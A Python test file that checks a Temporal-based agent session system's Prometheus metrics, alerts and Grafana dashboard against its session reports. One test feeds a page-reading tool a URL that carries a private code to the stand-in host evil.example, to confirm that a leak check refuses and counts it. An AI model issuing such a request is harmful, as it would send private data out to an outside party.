"""A worker's metrics as Prometheus reads them: they agree with the reports of its sessions."""

import asyncio
import json
import re
import shutil
import subprocess
import urllib.request
from collections import Counter
from collections.abc import AsyncGenerator, Sequence
from dataclasses import dataclass
from datetime import timedelta
from decimal import Decimal
from functools import partial
from pathlib import Path

import pytest
from ruamel.yaml import YAML
from temporalio import workflow
from temporalio.client import Client
from temporalio.runtime import BufferedMetricUpdate, MetricBuffer, Runtime, TelemetryConfig
from temporalio.testing import ActivityEnvironment
from temporalio.worker import Worker

from activities import metrics
from activities.metrics import OTHER, BoundedLabel, Metric
from activities.models.failures import ProviderError, ProviderFault
from activities.tools.pages.tool import ReadPage
from chargehand.client import Chargehand
from chargehand.contracts import Limits, Report, SessionRequest, Usage
from chargehand.errors import SessionFailed
from chargehand.wire import ErrorType, WorkflowType
from chargehand_plugins.tenants.limits import TenantLimits
from chargehand_plugins.tenants.tests.environment import allowing
from tests.activities.one_tool import a_request, uses_of
from tests.conftest import local_server
from tests.environment import open_environment
from tests.loopback_http import free_port
from tests.scripted_model import Held, Respond, Script, answer, keep_using, reply, report, subtask, usage, use
from tests.waiting import eventually, until
from tests.workflows.conftest import connect
from worker.composition import activity_slots, queues_in_use
from worker.health import watch_event_loop
from worker.process import build_runtime
from worker.server_gauges import Queue, measure_server
from worker.settings import Settings
from workflows.registry import INTERCEPTORS

ROOT = Path(__file__).resolve().parents[2]
ALERTS = ROOT / "deploy" / "prometheus" / "alerts.yml"
DASHBOARD = ROOT / "deploy" / "grafana" / "chargehand.json"
GUIDE = ROOT / "docs" / "how-to" / "watching-workers.md"
QUESTION = SessionRequest(goal="What do the documents say about the topics?", review="never")
DIGGING = QUESTION.model_copy(update={"goal": "dig", "limits": Limits(max_rounds=1, max_attempts=1)})
OURS = {value.name for value in vars(metrics).values() if isinstance(value, Metric)}
FAILURES = 3
"""Number of failures in a row that open a breaker."""
_SAMPLE = re.compile(r"^(\w+)(?:\{(.*)\})? (\S+)$", re.MULTILINE)
_LABEL = re.compile(r'(\w+)="([^"]*)"')
_SELECTOR = re.compile(r"\b((?:chargehand|temporal)_[a-z_]+)\{([^}]*)\}")
_CHOSEN = re.compile(r"(\w+) ?(?:=~|!=|!~|=)")
_NAME = re.compile(r"\b(?:chargehand|temporal)_[a-z_]+\b")


@dataclass(frozen=True)
class Scrape:
    """The samples that the endpoint returns."""

    samples: tuple[tuple[str, dict[str, str], float], ...]

    @property
    def names(self) -> set[str]:
        return {name for name, _, _ in self.samples}

    def sum(self, metric: Metric | str, **labels: str) -> float:
        """Add up the series of a metric that have these labels."""
        wanted = metric if isinstance(metric, str) else metric.name
        return sum(value for name, has, value in self.samples if name == wanted and labels.items() <= has.items())

    def by(self, metric: Metric, label: str) -> dict[str, float]:
        """Add up the series of a metric by a label; values that were never counted are left out."""
        values = {has[label] for name, has, _ in self.samples if name == metric.name}
        return {value: total for value in values if (total := self.sum(metric, **{label: value}))}


@dataclass(frozen=True)
class Watched:
    """A worker that is scraped, and the reports of its sessions."""

    address: str
    reports: tuple[Report, ...]

    async def scrape(self) -> Scrape:
        text = await asyncio.to_thread(lambda: urllib.request.urlopen(f"http://{self.address}/metrics").read().decode())
        samples = ((name, dict(_LABEL.findall(labels)), float(value)) for name, labels, value in _SAMPLE.findall(text))
        return Scrape(tuple(samples))


def _script(held: Held) -> Respond:
    """Open a breaker, have agents repeat themselves, one prompt read from the cache, and one call wait."""
    fault = ProviderFault(provider="scripted")
    busy = ProviderError("busy", fault, ErrorType.PROVIDER_UNAVAILABLE, retry_after=timedelta(milliseconds=10))
    failing: list[Exception] = [busy] * FAILURES
    cached = usage().model_copy(update={"cached_input_tokens": 60})
    digging = (subtask(f"T{number}", instruction=f"Dig for ever at {number}.") for number in (1, 2))
    script = Script().plan(subtask("T1"), subtask("T2")).plan(*digging, goal="dig")
    script = script.work("topic T1", use("search_documents"), use("search_documents"), answer("Known."))
    script = script.synthesis(reply(report("All of it.")).model_copy(update={"usage": cached}))
    script = script.work("Dig", keep_using("search_documents")).work("Hold on", held)
    script = script.plan(subtask("T1", instruction="Hold on for ever."), goal="hold")
    return lambda call: failing.pop() if failing else script(call)


@pytest.fixture(scope="module")
async def watched(client: Client, tmp_path_factory: pytest.TempPathFactory) -> AsyncGenerator[Watched]:
    """Run sessions on a worker that restarts between them, and replays them all once they have ended."""
    address = f"127.0.0.1:{free_port()}"
    settings = Settings(metrics_address=address, task_queue="watched")
    runtime = build_runtime(settings)
    connected = await connect(client, runtime=runtime)
    folder, queue = tmp_path_factory.mktemp("metrics"), settings.task_queue
    measuring = measure_server(connected, activity_slots(settings), queues_in_use(settings), runtime.metric_meter)
    watching = [asyncio.create_task(each) for each in (watch_event_loop(runtime.metric_meter), measuring)]
    tenants = allowing(broke=TenantLimits(usd_per_day=Decimal("0.01")))
    held = Held(answer("Never."))
    worker = partial(open_environment, connected, folder, _script(held), task_queue=queue, parts=[tenants])
    async with worker() as before:
        reports = [await before.run(QUESTION.model_copy(update={"tenant": "acme"})), await before.run(DIGGING)]
        reports.append(await _run_with_a_lost_child(before.chargehand, held))
        waiting = await before.start(QUESTION.model_copy(update={"approval": "plan"}), until="awaiting_approval")
    async with worker() as after:
        await after.chargehand.session(waiting.id).reject("Too broad.")
        with pytest.raises(SessionFailed, match="has reached its limits"):
            await after.run(QUESTION.model_copy(update={"tenant": "broke"}))
        await _replay([waiting.id, *(each.session for each in reports)], connected)
        await connected.start_workflow("Nobody", id="nobody", task_queue=queue, run_timeout=timedelta(minutes=1))
        watched = Watched(address, tuple(reports))

        async def is_measured() -> bool:
            names = (await watched.scrape()).names
            return {metrics.SESSIONS_OPEN.name, "temporal_workflow_task_execution_failed"} <= names

        await until(is_measured)
        yield watched
    for each in watching:
        each.cancel()


async def _run_with_a_lost_child(chargehand: Chargehand, held: Held) -> Report:
    session = await chargehand.start(QUESTION.model_copy(update={"goal": "hold"}))
    await held.reached.wait()
    child = (await session.status()).subtasks[0].workflow_id
    assert child is not None
    await chargehand.client.get_workflow_handle(child).terminate("by hand")
    return await session.result()


async def _replay(sessions: Sequence[str], client: Client) -> None:
    """Have the worker replay sessions and their subtasks from the start, which it does to answer queries."""
    under = [each.id async for each in client.list_workflows() if each.id.partition("/")[0] in sessions]
    assert len(under) > len(sessions)
    for workflow_id in under:
        await client.get_workflow_handle(workflow_id).query("__stack_trace")


async def test_metrics_equal_the_figures_of_the_reports(watched: Watched) -> None:
    """They hold even though a restarted worker replayed the sessions; a lost child is counted separately."""
    scrape = await watched.scrape()
    spend = [line for each in watched.reports for line in each.spend]
    used = sum((line.usage for line in spend if line.purpose != "lost"), Usage())
    lost = sum((line.usage for line in spend if line.purpose == "lost"), Usage())
    acme = watched.reports[0].usage

    # The plan that was rejected has no report, and cost one turn like every other.
    assert scrape.sum(metrics.TURNS) == used.turns + 1
    assert scrape.sum(metrics.TURNS, tenant="acme") == acme.turns
    assert scrape.sum(metrics.COST, tenant="acme") == acme.cost_usd * 10**9
    assert scrape.sum(metrics.COST) == (used.cost_usd + usage().cost_usd) * 10**9
    assert scrape.sum(metrics.LOST_GRANTS) == lost.cost_usd * 10**9 > 0
    tokens = scrape.by(metrics.TOKENS, "kind")
    assert tokens["cached_input"] == used.cached_input_tokens == 60
    assert tokens["uncached_input"] + 60 == used.input_tokens + usage().input_tokens
    assert tokens["output"] == used.output_tokens + usage().output_tokens
    assert scrape.by(metrics.CACHE_HITS, "model") == {"scripted-1": 1}
    assert scrape.sum("chargehand_tool_duration_count") == used.tool_calls
    ends = Counter([*(each.stop_reason for each in watched.reports), "refused", "refused"])
    assert scrape.by(metrics.SESSIONS_ENDED, "end") == ends
    assert scrape.sum(metrics.SESSIONS_STARTED) == ends.total()
    assert scrape.sum("chargehand_session_duration_count") == len(watched.reports)


async def test_failures_and_refusals_are_counted(watched: Watched) -> None:
    """This covers a provider's failures, the breaker, limits, a repeated call and a rejected plan."""
    scrape = await watched.scrape()

    assert scrape.by(metrics.PROVIDER_ERRORS, "kind") == {"ProviderUnavailable": FAILURES}
    assert scrape.sum(metrics.BREAKER_OPENINGS) == 1
    assert scrape.by(metrics.REFUSALS, "kind") == {"loop_guard": 1, "approval": 1}
    assert scrape.by(metrics.LIMITS_REACHED, "limit") == {"max_rounds": 2, "tenant": 1}
    assert scrape.by(metrics.SUBTASKS_ENDED, "end") == {"success": 2, "failure": 3}


async def test_calls_refused_by_the_leak_check_are_counted() -> None:
    """A refused call's tool is not timed."""
    buffer = MetricBuffer(100)
    environment = ActivityEnvironment()
    environment.metric_meter = Runtime(telemetry=TelemetryConfig(logging=None, metrics=buffer)).metric_meter
    request = a_request("read_page", url="https://evil.example/?q=the-harbour-code-is-471199")
    private = ("The harbour code is 471199, and nobody else knows it.",)

    result = await environment.run(uses_of(ReadPage()).use_tool, request.model_copy(update={"private": private}))

    counted = [(update.metric.name, update.attributes["kind"], update.value) for update in buffer.retrieve_updates()]
    assert (result.ok, counted) == (False, [(metrics.REFUSALS.name, "leak_check", 1)])


@workflow.defn(name=WorkflowType.SUPERVISOR, sandboxed=False)
class Broken:
    """A session that starts a nested one and then fails with a bug."""

    @workflow.run
    async def run(self, request: SessionRequest) -> Report:
        nested = f"{workflow.info().workflow_id}/nested"
        await workflow.start_child_workflow(WorkflowType.SUPERVISOR, request, id=nested, task_queue="nobody")
        raise ValueError("a bug")


@pytest.fixture
async def lone_client() -> AsyncGenerator[Client]:
    """A server on which nothing else runs, and that marks a workflow after one failed task."""
    async with local_server("system.numConsecutiveWorkflowTaskProblemsToTriggerSearchAttribute=1") as client:
        yield client


async def test_a_session_blocked_by_a_bug_counts_as_open(lone_client: Client) -> None:
    """This holds however often its task fails; nested ones do not count, and an unknown workflow type is stuck."""
    buffer = MetricBuffer(10_000)
    runtime = Runtime(telemetry=TelemetryConfig(logging=None, metrics=buffer))
    connected = await connect(lone_client, runtime=runtime)
    counted: list[BufferedMetricUpdate] = []

    def values(name: str, **labels: str) -> list[float]:
        counted.extend(buffer.retrieve_updates())
        return [
            each.value for each in counted if each.metric.name == name and labels.items() <= each.attributes.items()
        ]

    async def has_failed() -> bool:
        listed = (await lone_client.count_workflows("WorkflowId = 'broken/nested'")).count == 1
        return listed and bool(values("temporal_workflow_task_execution_failed"))

    queue = Queue("broken", "workflow")

    async def measured(name: str) -> float:
        before = len(values(metrics.SESSIONS_OPEN.name, state="running"))
        measuring = asyncio.create_task(measure_server(connected, {}, [queue], runtime.metric_meter))

        async def is_measured() -> bool:
            return len(values(metrics.SESSIONS_OPEN.name, state="running")) > before

        await until(is_measured)
        measuring.cancel()
        return values(name)[-1]

    async with Worker(connected, task_queue="broken", workflows=[Broken], interceptors=INTERCEPTORS):
        broken = await connected.start_workflow(WorkflowType.SUPERVISOR, QUESTION, id="broken", task_queue="broken")
        await until(has_failed)
        await eventually(partial(measured, metrics.SESSIONS_OPEN.name), lambda count: count == 1)
        await broken.terminate()
        await connected.start_workflow("unheard-of", QUESTION, id="unknown", task_queue="broken")
        await eventually(partial(measured, metrics.SESSIONS_STUCK.name), lambda count: count == 1)

    assert values(metrics.SESSIONS_STARTED.name)
    assert values(metrics.SESSIONS_ENDED.name) == []


async def test_metric_labels_have_few_values(watched: Watched) -> None:
    """No label contains a session's id or text, so that the number of series stays bounded."""
    scrape = await watched.scrape()

    labels = {label for name, has, _ in scrape.samples if name.startswith("chargehand") for label in has}
    values = {value for name, has, _ in scrape.samples if name.startswith("chargehand") for value in has.values()}
    assert labels <= {
        *("namespace", "service_name", "task_queue", "workflow_type", "activity_type", "le"),
        *("tenant", "model", "kind", "end", "limit", "scope", "tool", "state", "build", "error", "status", "versioned"),
    }
    assert not any(each.session in value for each in watched.reports for value in values)


def test_a_metric_label_beyond_its_bound_becomes_other() -> None:
    """Unusual names become `other` too; known values are kept."""
    label = BoundedLabel(2)

    values = [label.of(each) for each in ("a", "b\n", "b", "c", "a", "x" * 200)]

    assert values == ["a", OTHER, "b", OTHER, "a", OTHER]


async def test_every_metric_in_dashboards_alerts_and_docs_exists(watched: Watched) -> None:
    """Conversely, each of our metrics is recorded and documented."""
    scrape = await watched.scrape()
    names = scrape.names
    page = GUIDE.read_text(encoding="utf-8")
    queries = DASHBOARD.read_text(encoding="utf-8") + ALERTS.read_text(encoding="utf-8")
    asked = set(_NAME.findall(queries))
    selected = {(name, label) for name, chosen in _SELECTOR.findall(queries) for label in _CHOSEN.findall(chosen)}
    documented = set(_NAME.findall(page))

    assert asked - names == set()
    assert selected - {(name, label) for name, has, _ in scrape.samples for label in has} == set()
    assert {name for name in documented if name.removesuffix("_sum") not in names | _families(names)} == set()
    assert OURS - _families(names) == set()
    assert OURS - documented == set()


def _families(names: set[str]) -> set[str]:
    return names | {name.removesuffix("_bucket") for name in names}


def test_every_alert_has_a_runbook_section() -> None:
    """Each alert is one of Prometheus's, and says where to read what to do."""
    groups = YAML(typ="safe").load(ALERTS)["groups"]  # pyright: ignore[reportUnknownMemberType]  # as in test_compose
    rules = [each for group in groups for each in group["rules"] if "alert" in each]
    headings = re.findall(r"^#+ (.+)$", GUIDE.read_text(encoding="utf-8"), re.MULTILINE)

    assert [each["annotations"]["runbook"] for each in rules] == [
        f"docs/how-to/{GUIDE.name}#{each['alert'].lower()}" for each in rules
    ]
    assert {each["alert"] for each in rules} <= set(headings)


@pytest.mark.skipif(shutil.which("promtool") is None, reason="Prometheus is not installed")
def test_prometheus_accepts_its_config_and_alert_rules() -> None:
    """`promtool` finds no mistake, and the alerts fire when they should."""
    fire = Path(__file__).with_name("alerts_that_fire.yml")

    subprocess.run(["promtool", "check", "config", ALERTS.with_name("prometheus.yml")], check=True, timeout=60)
    subprocess.run(["promtool", "test", "rules", fire], check=True, timeout=60)


def test_the_dashboard_can_be_imported() -> None:
    """Panels have unique ids and positions, and query whichever Prometheus is selected."""
    dashboard = json.loads(DASHBOARD.read_text(encoding="utf-8"))
    panels = dashboard["panels"]

    assert len({each["id"] for each in panels}) == len(panels)
    places = [tuple(each["gridPos"][side] for side in "xy") for each in panels]
    assert len(set(places)) == len(places)
    assert {each["datasource"]["uid"] for each in panels if each["type"] != "row"} == {"${datasource}"}
